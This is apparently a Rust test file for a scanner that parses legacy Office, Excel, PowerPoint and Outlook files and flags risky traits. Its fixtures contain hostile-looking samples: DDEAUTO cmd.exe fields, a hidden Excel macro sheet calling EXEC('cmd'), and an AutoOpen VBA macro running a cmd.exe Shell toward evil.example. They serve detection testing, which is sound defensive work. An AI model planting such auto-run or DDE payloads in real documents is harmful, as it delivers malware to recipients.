use std::io::{Cursor, Write as _};

use flate2::{Compression, write::ZlibEncoder};
use proptest::prelude::*;

use super::*;
use crate::{
    contents::document::{
        testing::{details, first, found, kinds, members, properties, text},
        vba::packed,
    },
    mail::{Inside, Lock},
};

/// A compound file of these streams.
pub(super) fn ole(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, content) in streams {
        if let Some((folder, _)) = path.rsplit_once('/').filter(|(folder, _)| !folder.is_empty()) {
            file.create_storage_all(folder).unwrap();
        }
        file.create_stream(path).unwrap().write_all(content).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// Streams of a document with this text, in two pieces: of one byte, and of two.
fn word(narrow: &[u8], wide: &str, flags: u16) -> (Vec<u8>, Vec<u8>) {
    let mut main = vec![0; 0x200];
    main[..2].copy_from_slice(&0xa5ec_u16.to_le_bytes());
    main[10..12].copy_from_slice(&(flags | 0x0200).to_le_bytes());
    let wide: Vec<u8> = wide.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let start = main.len() as u32;
    main.extend_from_slice(narrow);
    main.extend_from_slice(&wide);
    let (one, two) = (narrow.len() as u32, (wide.len() / 2) as u32);
    let mut table = b"\x01\x02\0xx\x02".to_vec();
    table.extend(28_u32.to_le_bytes());
    [0, one, one + two].iter().for_each(|cp| table.extend(cp.to_le_bytes()));
    for place in [(start * 2) | 0x4000_0000, start + one] {
        table.extend([0, 0]);
        table.extend(place.to_le_bytes());
        table.extend([0, 0]);
    }
    main[0x1a6..0x1aa].copy_from_slice(&(table.len() as u32).to_le_bytes());
    (main, table)
}

#[test]
fn word_documents_are_read() {
    let narrow =
        b"Caf\xe9 \x13 HYPERLINK \"http://a.example/x\" \x14here\x15\r\x13DDEAUTO cmd.exe\x15";
    let (main, table) = word(narrow, "Привет\r", 0);
    let inside = found(&ole(&[("/WordDocument", &main), ("/1Table", &table)]));
    assert_eq!(first(&inside).kind, "doc");
    assert_eq!(text(&inside), "Café here\nПривет\n");
    assert_eq!(first(&inside).uris, ["http://a.example/x"]);
    assert_eq!(details(&inside, TraitKind::Dde), ["DDEAUTO cmd.exe"]);
    let (main, table) = word(b"secret", "", 0x0100);
    let inside = found(&ole(&[("/WordDocument", &main), ("/1Table", &table)]));
    assert_eq!((first(&inside).lock, &*text(&inside)), (Lock::Locked, ""));
}

fn record(kind: u16, body: &[u8]) -> Vec<u8> {
    [&kind.to_le_bytes()[..], &(body.len() as u16).to_le_bytes(), body].concat()
}

fn book(records: &[Vec<u8>]) -> Inside {
    found(&ole(&[("/Workbook", &records.concat())]))
}

#[test]
fn workbooks_are_read() {
    let link = [
        b"\0\0\0\0".as_slice(),
        b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b",
        b"\x12\0\0\0h\0t\0t\0p\0:\0/\0/\0a\0\0\0",
    ];
    let inside = book(&[
        record(0x809, b"\0\x06\x05\0"),
        // Three strings: of one byte, over two records, and rich.
        record(0xfc, b"\x03\0\0\0\x03\0\0\0\x03\0\0Buy\x05\0\0he"),
        record(0x3c, b"\x01l\0l\0o\0\x02\0\x08\x01\0ok\x01\x02\x03\x04"),
        record(0x204, b"\0\0\0\0\0\0\x02\0\x01\xfc\0!\0"),
        record(0x1b8, &link.concat()),
        record(0x1ae, b"\x01\0\x08\0\0cmd\x03calc"),
    ]);
    assert_eq!(first(&inside).kind, "xls");
    assert_eq!(text(&inside), "Buy\nhello\nok\nü!\n");
    assert_eq!(first(&inside).uris, ["http://a"]);
    assert_eq!(details(&inside, TraitKind::Dde), ["cmd|calc"]);
    assert_eq!(first(&book(&[record(0x2f, b"\0\0"), record(0x204, b"")])).lock, Lock::Locked);
}

#[test]
fn macro_sheets_are_read() {
    let formula = [&[0; 20][..], b"\x0a\0", b"\x17\x03\0cmd\x42\x01\x6e\0"].concat();
    let inside = book(&[
        record(0x85, b"\0\0\0\0\x02\x01\x04\0Mac1"),
        record(0x18, b"\x20\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\x01"),
        record(0x809, b"\0\x06\x40\0"),
        record(0x06, &formula),
    ]);
    assert_eq!(details(&inside, TraitKind::ExcelMacro), ["Mac1 (very hidden)"]);
    assert_eq!(details(&inside, TraitKind::AutoRun), ["Auto_Open"]);
    assert_eq!(details(&inside, TraitKind::SuspiciousCall), ["EXEC(\"cmd\")"]);
}

#[test]
fn slides_are_read() {
    let atom = |kind: u16, version: u16, body: &[u8]| {
        [&version.to_le_bytes()[..], &kind.to_le_bytes(), &(body.len() as u32).to_le_bytes(), body]
            .concat()
    };
    let inner = ole(&[("/Macros/VBA/dir", b"x")]);
    let mut encoder = ZlibEncoder::new(vec![0; 4], Compression::best());
    encoder.write_all(&inner).unwrap();
    let body = [
        atom(0x0fa0, 0, b"W\0i\0n\0"),
        atom(0x0fa8, 0, b"now\rhere"),
        atom(0x0fba, 0, b"h\0t\0t\0p\0:\0/\0/\0a\0"),
        atom(0x1011, 0x10, &encoder.finish().unwrap()),
    ];
    let stream = atom(0x03e8, 15, &body.concat());
    let inside = found(&ole(&[("/PowerPoint Document", &stream)]));
    assert_eq!(first(&inside).kind, "ppt");
    assert_eq!(text(&inside), "Win\nnow\nhere\n");
    assert_eq!(first(&inside).uris, ["http://a"]);
    assert_eq!((&*inside.items[1].kind, inside.items[1].traits[0].kind), ("ole", TraitKind::Macro));
}

#[test]
fn messages_are_read() {
    let inside = found(&ole(&[
        ("/__properties_version1.0", b""),
        ("/__substg1.0_0037001F", b"H\0i\0"),
        ("/__substg1.0_1000001E", b"Buy now\r\n"),
        ("/__substg1.0_10130102", b"<html><a href='http://a.example'>x</a>"),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"MZ\x90\0"),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", b"a\0.\0e\0x\0e\0"),
    ]));
    assert_eq!(first(&inside).kind, "msg");
    assert_eq!((&*properties(&inside), &*text(&inside)), ("Hi", "Buy now\n"));
    let mut names = members(&inside);
    names.sort_unstable();
    assert_eq!(names, ["a.exe", "body.html"]);
}

#[test]
fn objects_are_found() {
    let native =
        b"\x40\0\0\0\x02\0inv.exe\0C:\\inv.exe\0\0\0\x03\0\x05\0\0\0C:\\x\0\x04\0\0\0MZ\x90\0";
    let link: Vec<u8> =
        "xxhttp://evil.example/a.hta\0".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let picture =
        [b"\0\0\x1e\xf0\x1a\0\0\0".as_slice(), &[0; 17], b"\x89PNG\r\n\x1a\n\0", b"rest"].concat();
    let inside = found(&ole(&[
        ("/ObjectPool/_1/\u{1}Ole10Native", native),
        ("/\u{1}Ole", &link),
        ("/Pictures", &picture),
        ("/PowerPoint Document", b""),
    ]));
    assert_eq!(members(&inside), ["inv.exe", "picture 1"]);
    assert_eq!(inside.items[1].kind, "exe");
    assert_eq!((inside.items[2].kind.as_str(), inside.items[2].size), ("png", 9));
    assert_eq!(details(&inside, TraitKind::External), ["http://evil.example/a.hta"]);
    assert!(details(&inside, TraitKind::Object).contains(&"inv.exe"));
    assert_eq!(details(&inside, TraitKind::OnlyPictures), ["1 pictures"]);
    assert_eq!(first(&found(&ole(&[("/EncryptedPackage", b"x")]))).lock, Lock::Locked);
}

fn project(source: &[u8]) -> Vec<u8> {
    let module = [b"compiled code\x01\x02".as_slice(), &packed(source)].concat();
    ole(&[("/Macros/VBA/dir", b"x"), ("/Macros/VBA/ThisDocument", &module)])
}

#[test]
fn macros_are_found() {
    let source = b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"cmd.exe /c http://evil.example/x\"\r\nEnd Sub\r\n";
    let inside = found(&project(source));
    assert_eq!(kinds(&inside), [TraitKind::Macro, TraitKind::AutoRun, TraitKind::SuspiciousCall]);
    assert_eq!(first(&inside).uris, ["http://evil.example/x"]);
    assert_eq!(kinds(&found(&project(b"Attribute VB_Name = \"Sheet1\"\r\n"))), []);
    // In a package, it is the package that has the macros; without its compound file, too.
    for bytes in [project(source), packed(source)] {
        let file = crate::contents::document::testing::package(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            ("word/vbaProject.bin", &bytes),
        ]);
        let inside = found(&file);
        assert_eq!(details(&inside, TraitKind::AutoRun), ["AutoOpen"]);
        assert_eq!(inside.items.len(), 1);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(100))]

    #[test]
    fn damaged_files_have_some_answer(which in 0..4_usize, places in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..20), cut in any::<prop::sample::Index>()) {
        let (main, table) = word(b"a\x13DDE x\x15b", "c", 0);
        let records = [record(0xfc, b"\x02\0\0\0\x02\0\0\0\x03\0\0Buy\x05\0\0he"), record(0x3c, b"\x01l\0l\0o\0"), record(0x85, b"\0\0\0\0\x02\x01\x04\0Mac1")];
        let mut file = match which {
            0 => ole(&[("/WordDocument", &main), ("/1Table", &table)]),
            1 => ole(&[("/Workbook", &records.concat())]),
            2 => project(b"Attribute VB_Name\r\nSub AutoOpen()\r\n"),
            _ => ole(&[("/__properties_version1.0", b""), ("/__substg1.0_1000001E", b"Buy"), ("/\u{1}Ole10Native", b"\x40\0\0\0\x02\0x\0y\0")]),
        };
        for (place, byte) in places {
            let at = place.index(file.len());
            file[at] = byte;
        }
        file.truncate(file.len() - cut.index(file.len()) / 8);
        found(&file);
    }
}
